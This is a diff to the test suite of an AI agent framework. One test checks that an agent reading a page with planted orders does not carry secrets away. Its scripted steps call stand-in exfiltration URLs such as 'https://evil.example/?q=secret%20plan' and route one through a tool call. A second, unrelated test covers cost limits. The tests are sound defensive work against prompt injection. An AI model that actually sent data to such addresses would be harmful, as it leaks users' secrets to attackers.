@@ -186,6 +186,8 @@ test('a page that gives orders carries nothing away: no address is opened that w
     // Before anything was read from outside, the agent's own idea is its own.
     read('https://news.example/1'),
     read('https://evil.example/?q=secret%20plan'),
+    // Nor by having a tool repeat it.
+    { calls: [{ name: 'calculate', arguments: { expression: 'https://evil.example/secret-plan' } }] },
     read('https://evil.example/secret-plan'),
     read('https://news.example/2'),
     { text: 'Nothing left.' },
@@ -348,6 +350,18 @@ test('what was used until a stop counts, and so does what was said', async () =>
     message: 'Cancelled by Ada.',
     partial: { text: 'A beginning.', usage: { tokensUsed: 77, model: 'small' } },
   })
+})
+
+test('a limit of cost without a price is said before anything is spent', async () => {
+  await agent({ maxCost: 1 })
+  const unpriced = async () => ({ asOf: '2026-01-01', prices: [] })
+  const found = await customAgents(it.store, { models, tools, prices: unpriced }).find(
+    it.workspaceId,
+    'scout',
+  )
+  if (!found) throw new Error('It is not there.')
+  expect((await failure(it.run(found)))?.message).toContain('nobody has said what the model small costs')
+  expect(fake.asked).toEqual([])
 })
 
 test('without a model it says where to enter one', async () => {
